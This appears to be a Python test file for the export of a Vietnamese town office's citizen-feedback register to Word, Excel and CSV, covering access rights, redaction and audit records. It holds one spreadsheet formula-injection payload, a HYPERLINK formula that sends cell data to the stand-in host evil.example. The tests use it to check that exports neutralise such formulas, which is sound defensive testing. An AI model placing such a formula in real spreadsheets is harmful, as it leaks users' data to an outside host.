"""The register as files: they open again, nothing in them is a formula, and nobody learns who sent what."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import docx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import Connection, select, update

from db.models import cases, events, people, units
from reports import DRAWINGS
from tests.citizens import BROWN, CHANNELS, code_in, filed, wait
from tests.talk import Heard, Town
from tests.test_cli import Office, office, staffed  # noqa: F401  the fixtures

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'


def values(*rows: dict[str, Any], scope: str = "") -> dict[str, Any]:
    return {
        "zone": "Asia/Ho_Chi_Minh", "office": {"name": "UBND thị xã Phước Long"},
        "period": {"kind": "year", "year": 2021, "number": 0}, "at": datetime(2021, 6, 1, tzinfo=UTC),
        "scope": scope, "rows": list(rows),
    }  # fmt: skip


def row(number: int = 1, **more: Any) -> dict[str, Any]:
    known = {
        "number": number, "at": datetime(2021, 1, 4, 1, 30, tzinfo=UTC), "code": "7K4M2", "track": "phan_anh",
        "kind": "Đường, vỉa hè", "words": "Ổ gà", "place": "ấp 5", "unit": "Phòng Quản lý đô thị",
        "due": date(2021, 1, 11), "state": "answered", "answered": datetime(2021, 1, 5, 2, 0, tzinfo=UTC),
        "answer": "Đã vá.", "rating": "good", "emptied": False,
    }  # fmt: skip
    return {**known, **more}


def drawn(form: str, *rows: dict[str, Any]) -> bytes:
    return DRAWINGS[f"register_{form}"](values(*rows), lambda _: b"")


def sheet_of(data: bytes) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9
    assert all(cell.data_type == "s" for line in sheet.iter_rows() for cell in line if cell.value is not None)
    return [[str(value or "") for value in line] for line in sheet.iter_rows(values_only=True)]


def table_of(data: bytes) -> list[list[str]]:
    document = docx.Document(io.BytesIO(data))
    [section] = document.sections
    assert section.page_width is not None
    assert section.page_height is not None
    assert section.page_width > section.page_height
    table = document.tables[-1]
    width = len(table.columns)
    words = [cell.text for cell in table._cells]
    return [words[at : at + width] for at in range(0, len(words), width)]


def test_the_printed_register_has_the_forms_heading_and_columns() -> None:
    data = drawn("docx", row(), row(2, code="ABCDE", words=EVIL), {"number": 3})
    document = docx.Document(io.BytesIO(data))
    head = " ".join(cell.text for cell in document.tables[0]._cells)
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in head
    assert "Độc lập - Tự do - Hạnh phúc" in head
    assert "SỔ TIẾP NHẬN THÔNG TIN, NĂM 2021" in "\n".join(p.text for p in document.paragraphs)
    first, *lines = table_of(data)
    assert first[:5] == ["Số", "Ngày nhận", "Mã", "Lĩnh vực", "Nội dung"]
    assert lines[0][0] == "1"
    assert lines[0][1] == "08:30 04/01/2021"
    assert lines[0][-1] == "Đã trả lời, 05/01/2021 (Ổn)"
    assert lines[1][4] == EVIL
    assert lines[2] == ["3", "", "", "", "(hạn chế)", "", "", "", ""]


def test_the_workbook_opens_again_and_holds_no_formula() -> None:
    lines = sheet_of(drawn("xlsx", row(words=EVIL), {"number": 2}))
    assert lines[6][:6] == ["Số", "Ngày nhận", "Mã", "Loại", "Lĩnh vực", "Nội dung"]
    assert lines[7][5] == EVIL
    assert lines[8][0] == "2"
    assert lines[8][5] == "(hạn chế)"
    assert "".join(lines[8][1:5] + lines[8][6:]) == ""


def test_a_table_of_plain_text_cannot_become_formulas_either() -> None:
    data = drawn("csv", row(words=EVIL), row(2, words="-5 độ\n+ xe", place="@nhà"))
    assert data.startswith(b"\xef\xbb\xbf")
    first, *lines = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    assert first[0] == "Số"
    assert [line[5] for line in lines] == ["'" + EVIL, "'-5 độ\n+ xe"]
    assert lines[1][6] == "'@nhà"


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(st.characters(codec=None), max_size=40), st.text(max_size=40))
def test_whatever_people_type_can_be_written_and_read_again(words: str, place: str) -> None:
    line = row(words=words, place=place)
    assert len(sheet_of(drawn("xlsx", line))) == 8
    assert len(table_of(drawn("docx", line))) == 2
    for cells in csv.reader(io.StringIO(drawn("csv", line).decode("utf-8-sig"), newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


async def test_the_reception_prints_the_register_and_it_is_on_record(town: Town) -> None:
    citizen = town.stranger("Nguyễn Văn Dân", "telegram")
    code = code_in(await filed(town, citizen, "ổ gà sâu trước chợ", picture=BROWN))
    await filed(town, citizen, EVIL)
    for name in town.people:
        town.unread(name)

    def exported(conn: Connection) -> list[Any]:
        query = select(events.c.fields, people.c.name).join(people, people.c.id == events.c.actor_id)
        return list(conn.execute(query.where(events.c.action == "exported")).all())

    await town.say("Đức", "sổ tiếp nhận")
    await town.hears("Đức", "Sổ tiếp nhận thông tin", "năm 2021: 2 lượt", "Bản in (Word)", "Excel", "CSV")
    await town.press("Đức", "Excel")
    await town.hears("Đức", "dùng để làm gì?", "In, lưu sổ")
    assert await town.database.read(exported) == []
    await town.press("Đức", "In, lưu sổ")
    await wait(town)
    heard = town.unread("Đức")
    [(_, name, data)] = heard[-1].uploads
    assert name == "so-tiep-nhan-2021.xlsx"
    lines = sheet_of(data)
    assert [line[0] for line in lines[7:]] == ["1", "2"]
    assert lines[7][2] == code
    assert lines[8][5] == EVIL
    assert "Dân" not in "".join(lines[7]) + "".join(lines[8])

    [(fields, who)] = await town.database.read(exported)
    assert who.split()[-1] == "Đức"
    assert (fields["period"], fields["form"], fields["rows"]) == ("2021", "xlsx", 2)
    assert fields["why"] == "archive"
    await town.press("Đức", "Bản in (Word)")
    await town.press("Đức", "‹ Quay lại")
    await town.press("Đức", "Bản in (Word)")
    await town.press("Đức", "Báo cáo cấp trên")
    await wait(town)
    [(_, _, data)] = town.unread("Đức")[-1].uploads
    assert [line[0] for line in table_of(data)[1:]] == ["1", "2"]


async def test_what_is_about_the_reader_keeps_its_number_and_nothing_else(town: Town) -> None:
    citizen = town.stranger("Dân", "telegram")
    await filed(town, citizen, "ổ gà sâu trước chợ")
    secret = code_in(await filed(town, citizen, "bí mật thái độ ở bộ phận tiếp nhận"))
    await filed(town, citizen, "rác không gom trước chợ")

    def about(conn: Connection) -> None:
        unit = conn.execute(select(units.c.id).where(units.c.code == "TN")).scalar_one()
        conn.execute(update(cases).where(cases.c.code == secret).values(about_unit_id=unit))

    await town.database.write(about)
    for name in town.people:
        town.unread(name)
    for who, hidden in (("Đức", True), ("Trần Quốc Dũng", False)):
        await town.say(who, "/sotiepnhan 2021")
        await town.press(who, "CSV")
        await town.press(who, "Kiểm tra, giám sát")
        await wait(town)
        text = csv_of(town, who)
        assert [line[0] for line in text[1:]] == ["1", "2", "3"]
        assert (text[2][5] == "(hạn chế)") is hidden
        assert any(secret in cell for cell in text[2]) is not hidden


def csv_of(town: Town, who: str) -> list[list[str]]:
    heard: Heard = town.unread(who)[-1]
    [(_, _, data)] = heard.uploads
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


async def test_a_head_gets_the_list_of_the_unit_and_others_a_no(town: Town) -> None:
    citizen = town.stranger("Dân", "telegram")
    await filed(town, citizen, "ổ gà sâu trước chợ")
    await filed(town, citizen, "rác không gom trước chợ Thác Mơ")
    for name in town.people:
        town.unread(name)
    await town.say("Ngọc", "/sotiepnhan quý 1")
    await town.hears("Ngọc", "Danh sách phản ánh của Phòng Tài nguyên và Môi trường", "quý I/2021: 1 lượt")
    await town.press("Ngọc", "CSV")
    await town.press("Ngọc", "Họp, điều hành")
    await wait(town)
    [(words, place)] = [(line[5], line[6]) for line in csv_of(town, "Ngọc")[1:]]
    assert (words, place) == (
        "rác không gom trước chợ Thác Mơ",
        "phường Thác Mơ",
    )  # the area it was matched to
    await town.say("Nam", "/sotiepnhan")
    await town.hears("Nam", "Zalo không chuyển được tệp danh sách", "congvu register")
    await town._turn("Nam", pressed="register:xlsx:2021:meeting")  # from an older menu
    await town.hears("Nam", "Zalo không chuyển được tệp danh sách")

    def exported(conn: Connection) -> list[Any]:
        query = select(events.c.actor_id).where(events.c.subject == "register")
        return list(conn.execute(query).scalars())

    assert await town.database.read(exported) == [town.ids["Huỳnh Thị Ngọc"]]  # what went out, and no more
    await town.say("Nguyễn Thị Kiều", "/sotiepnhan")
    await town.hears("Nguyễn Thị Kiều", "dành cho bộ phận tiếp nhận")


@pytest.mark.parametrize("channel", CHANNELS)
async def test_a_citizen_has_no_register(town: Town, channel: str) -> None:
    citizen = town.stranger("Dân", channel)
    await town.say(citizen, "/sotiepnhan")
    await town.hears(citizen, "Chưa có lệnh này")


async def test_an_empty_period_and_a_wrong_one_are_told(town: Town) -> None:
    await town.say("Đức", "/sotiepnhan tháng 3")
    await town.hears("Đức", "Tháng 03/2021: chưa có lượt nào")
    await town.say("Đức", "/sotiepnhan linh tinh")
    await town.hears("Đức", "Chưa rõ kỳ báo cáo")


def test_the_machine_writes_the_register(staffed: Office, tmp_path: Path) -> None:  # noqa: F811
    refused = staffed.types("register", "--year", "2021", "--why", "archive")
    assert "Cần ít nhất một tệp" in refused.output
    assert "--why" in staffed.types("register", "--year", "2021", "--csv", "so.csv").output
    written = staffed.types(
        "register", "--year", "2021", "--why", "archive", "--xlsx", "so.xlsx", "--docx", "so.docx"
    )
    assert written.exit_code == 0, written.output
    assert "Đã ghi so.xlsx: 0 lượt." in written.output
    assert len(sheet_of(Path("so.xlsx").read_bytes())) == 7
    assert len(table_of(Path("so.docx").read_bytes())) == 1
    assert (
        "Chưa rõ kỳ"
        in staffed.types("register", "--period", "quý 7", "--why", "report", "--csv", "so.csv").output
    )
